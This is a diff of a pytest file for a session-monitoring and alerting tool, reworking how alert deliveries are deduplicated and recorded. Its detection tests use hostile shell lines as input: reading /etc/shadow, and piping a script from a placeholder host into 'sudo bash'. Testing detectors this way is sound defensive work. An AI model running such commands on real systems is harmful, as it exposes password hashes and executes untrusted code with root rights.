@@ -26,7 +26,6 @@ import boto3
 import pytest
 from aws_lambda_powertools.utilities.data_classes import CloudWatchLogsEvent
 from moto import mock_aws
-from sessionguard.adapters.dynamodb import DeliveryLedger, idempotency_persistence
 from sessionguard.adapters.logs import CloudWatchTranscriptSink, PutResult, SessionLogReader
 from sessionguard.adapters.slack import UrllibSlackWebhook
 from sessionguard.alerting import session_alerts
@@ -45,9 +44,7 @@ from sessionguard.severity import Severity
 from tests.conftest import HttpRecorder
 from tests.functional import make_alert_fixtures as fixtures
 from tests.support import (
-    ALERT_STATE_TABLE,
     AlertStack,
-    CountingNoiseStore,
     FakeLambdaContext,
     fresh_powertools,
     load_function,
@@ -139,7 +136,8 @@ class Stack(AlertStack):
                 QueueUrl=self.failure_queue_url, ReceiptHandle=message["ReceiptHandle"], VisibilityTimeout=0
             )
 
-    def transcript(self, stream: str) -> list[dict[str, Any]]:
+    def sanitized_events(self, stream: str) -> list[dict[str, Any]]:
+        """Every event of the session's sanitized stream: its lines, alert lines and delivery records."""
         try:
             events = self.logs.get_log_events(
                 logGroupName=SANITIZED_GROUP, logStreamName=stream, startFromHead=True, limit=10_000
@@ -147,6 +145,14 @@ class Stack(AlertStack):
         except self.logs.exceptions.ResourceNotFoundException:
             return []
         return [json.loads(e["message"]) for e in events]
+
+    def transcript(self, stream: str) -> list[dict[str, Any]]:
+        """The session's transcript as people read it: its lines and alert lines (no delivery records)."""
+        return [event for event in self.sanitized_events(stream) if event.get("kind") != "delivery"]
+
+    def delivery_records(self, stream: str) -> list[dict[str, Any]]:
+        """The delivery records the session ledger reads back (`ledger.model.delivery_record`)."""
+        return [event for event in self.sanitized_events(stream) if event.get("kind") == "delivery"]
 
     def transcript_text(self) -> str:
         streams = self.logs.describe_log_streams(logGroupName=SANITIZED_GROUP)["logStreams"]
@@ -296,8 +302,10 @@ def test_a_retried_invocation_sends_nothing_twice(app: ModuleType, stack: Stack)
     assert len(stack.slack_posts()) == len(RISKY_DELIVERED)
     assert len(stack.transcript(fixtures.RISKY_SESSION)) == 17
     assert summary["delivered"] == {}
-    assert summary["suppressed"]["retry"] == 4 * 2 + 4  # SNS x2 topics, Slack
-    assert summary["lines_already_written"] == 17  # the transcript marks know its lines: not written again
+    # Its alerts' claims name this batch, and its delivery record is in the transcript: delivered whole already.
+    assert summary["suppressed"]["retry"] == 4
+    assert summary["lines_already_written"] == 17
+    assert len(stack.delivery_records(fixtures.RISKY_SESSION)) == 1
 
 
 def test_a_session_over_its_cap_sends_one_summary(
@@ -531,7 +539,7 @@ def test_a_1_mb_line_is_split_into_log_events_within_the_limit(app: ModuleType, 
     events = stack.logs.get_log_events(logGroupName=SANITIZED_GROUP, logStreamName="dave-0e1f", limit=100)["events"]
     assert len(events) > 1
     assert all(len(e["message"].encode()) <= LOG_EVENT_MAX_BYTES for e in events)
-    parts = [json.loads(e["message"]) for e in events]
+    parts = [part for e in events if (part := json.loads(e["message"]))["kind"] != "delivery"]
     text = "".join(p["text"] for p in parts)
     assert text.startswith("cat /etc/shadow ")
     assert text.endswith("é" * 10 + "A" * 500_000)
@@ -876,8 +884,8 @@ def test_a_pasted_flood_costs_a_bounded_number_of_state_calls_and_the_real_alert
     app: ModuleType, stack: Stack
 ) -> None:
     _, outlets = session_alerts.default_outlets()
-    store = CountingNoiseStore(outlets.noise)
-    outlets.noise = store
+    claims = CountingClaims(outlets.claims)
+    outlets.claims = claims
     lines = ["sh-4.2$ cat /etc/shadow"] * 5_000 + ["sh-4.2$ curl -s https://get.example.com/x.sh | sudo bash"]
     events: list[list[str]] = [[]]
     for line in lines:  # the agent's events: at most 33,000 bytes of text
@@ -891,9 +899,34 @@ def test_a_pasted_flood_costs_a_bounded_number_of_state_calls_and_the_real_alert
 
     assert summary["alerts"] == 5_001
     assert stack.sns_rule_ids() == ["SG-TEST-004", "SG-TEST-001"]
-    # Two (rule, window) pairs: one window claim and one cap admission each, whatever the flood's size.
-    assert sorted(store.calls) == ["cap", "cap", "window", "window"]
+    # One write claims both alerts, their two (rule, window) pairs and their places under the cap, whatever the
+    # flood's size.
+    assert claims.calls == ["claim"]
     assert summary["suppressed"] == {"window": 4_999}
+
+
+@dataclass
+class CountingClaims:
+    """The session claims store, counting its calls."""
+
+    inner: Any
+    calls: list[str] = field(default_factory=list)
+
+    @property
+    def is_ledger(self) -> bool:
+        return bool(self.inner.is_ledger)
+
+    def claim(self, *args: Any) -> Any:
+        self.calls.append("claim")
+        return self.inner.claim(*args)
+
+    def read(self, *args: Any) -> Any:
+        self.calls.append("read")
+        return self.inner.read(*args)
+
+    def record(self, *args: Any) -> Any:
+        self.calls.append("record")
+        return self.inner.record(*args)
 
 
 # --- hostile metadata -------------------------------------------------------------------------------------------
@@ -976,7 +1009,8 @@ def test_transcript_lines_older_than_the_groups_retention_are_written_stamped_no
     assert summary["lines_written"] == summary["lines_restamped"] == 2
     assert summary["lines_rejected"] == 0
     assert all(e.timestamp >= group.now_ms for e in group.accepted)
-    assert {json.loads(e.message)["event_time"] for e in group.accepted} != {""}  # the line keeps its own time
+    lines = [line for e in group.accepted if (line := json.loads(e.message))["kind"] != "delivery"]
+    assert {line["event_time"] for line in lines} != {""}  # the line keeps its own time
 
 
 def test_with_the_retention_configured_old_lines_are_stamped_now_before_writing(
@@ -1009,32 +1043,6 @@ def test_the_transcript_sink_reports_which_events_cloudwatch_refused(stack: Stac
 
 
 # --- the delivery ledger ---------------------------------------------------------------------------------------
-
-
-def test_an_alert_whose_ledger_record_cannot_be_written_is_delivered_once_and_the_batch_succeeds(
-    app: ModuleType, stack: Stack, capsys: pytest.CaptureFixture[str]
-) -> None:
-    client = boto3.client("dynamodb", region_name=REGION)
-    real = client.update_item
-
-    def completion_fails(**kwargs: Any) -> Any:
-        if kwargs["Key"]["id"]["S"].startswith(DeliveryLedger.KEY_PREFIX):  # every COMPLETED record
-            raise client.exceptions.ProvisionedThroughputExceededException(
-                {"Error": {"Code": "ProvisionedThroughputExceededException", "Message": "x"}}, "UpdateItem"
-            )
-        return real(**kwargs)
-
-    client.update_item = completion_fails  # type: ignore[method-assign]
-    _, outlets = session_alerts.default_outlets()
-    outlets.ledger = DeliveryLedger(idempotency_persistence(ALERT_STATE_TABLE, client))
-
-    summary = invoke(app, event("alerts-risky-session.json"))  # would raise DeliveryFailed if counted as failed
-
-    assert summary["failures"] == {}
-    assert stack.sns_rule_ids() == RISKY_DELIVERED
-    documents = emf_documents(capsys.readouterr().out)
-    assert metric_total(documents, "DeliveriesNotRecorded", Channel="sns") == 8  # two topics, four alerts
-    assert metric_total(documents, "DeliveriesNotRecorded", Channel="slack") == 4
 
 
 # --- hostile deliveries (issue #13, items 1-6) -----------------------------------------------------------------
@@ -1246,7 +1254,7 @@ def test_the_short_last_line_of_a_private_key_split_across_deliveries_is_masked_
 
 
 @pytest.mark.parametrize("alert_lines", [False, True], ids=["without-alert-lines", "with-alert-lines"])
-def test_overlapping_deliveries_with_alerts_write_each_transcript_line_once(
+def test_overlapping_deliveries_send_each_alert_once_and_write_the_overlap_again(
     app: ModuleType, stack: Stack, monkeypatch: pytest.MonkeyPatch, alert_lines: bool
 ) -> None:
     if alert_lines:  # the template's setting: alert lines go with the transcript, in its PutLogEvents call
@@ -1265,7 +1273,10 @@ def test_overlapping_deliveries_with_alerts_write_each_transcript_line_once(
 
     transcript = stack.transcript(SPLIT_SESSION)
     texts = [line["text"] for line in transcript if line["kind"] != "alert"]
-    assert texts == [text for n in range(6) for text in (commands[n], str(n))]
+    # Each payload is its own batch: the claim of the alert's key keeps it to one delivery, but lines are written
+    # once per batch, so the overlap is written again (the trade in docs/alerts.md, "Each line once").
+    written = {n: texts.count(commands[n]) for n in range(6)}
+    assert written == {0: 2, 1: 2, 2: 3, 3: 3, 4: 2, 5: 2}
     assert stack.sns_rule_ids() == ["SG-TEST-001"]
     assert [line["rule_id"] for line in transcript if line["kind"] == "alert"] == ["SG-TEST-001"] * alert_lines
 
